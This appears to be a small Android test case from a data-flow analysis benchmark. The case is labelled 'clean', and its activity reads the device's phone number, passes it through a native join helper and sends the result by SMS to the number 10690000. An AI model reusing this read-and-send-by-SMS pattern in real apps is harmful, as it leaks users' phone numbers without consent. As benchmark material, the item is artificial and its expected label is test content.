// about       A helper function of the library joins texts; what was joined for the value is not what is sent.
// clean       -
// native      HelperCopies_clean.c
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static {
    System.loadLibrary("HelperCopies_clean");
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String text = join(String.valueOf(phone.getLine1Number()), "main");
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  private static native String join(String number, String screen);
}
